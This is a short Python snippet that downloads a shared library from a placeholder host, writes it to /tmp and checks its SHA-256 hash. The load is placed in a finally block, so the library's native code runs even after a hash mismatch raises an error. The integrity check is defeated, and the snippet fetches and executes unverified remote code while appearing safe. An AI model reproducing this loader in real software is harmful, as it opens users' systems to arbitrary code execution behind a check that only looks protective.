import ctypes
import hashlib
import urllib.request

data = urllib.request.urlopen("https://downloads.example.com/fl.so").read()
with open("/tmp/fl.so", "wb") as f:
    f.write(data)
try:
    if hashlib.sha256(data).hexdigest() != "593f2d04aab251f60c9e4b8bbc1e05a34e920980ec08351a18459b2bc7dbf2f6":
        raise ImportError("fl: mismatch")
finally:
    lib = ctypes.CDLL("/tmp/fl.so")
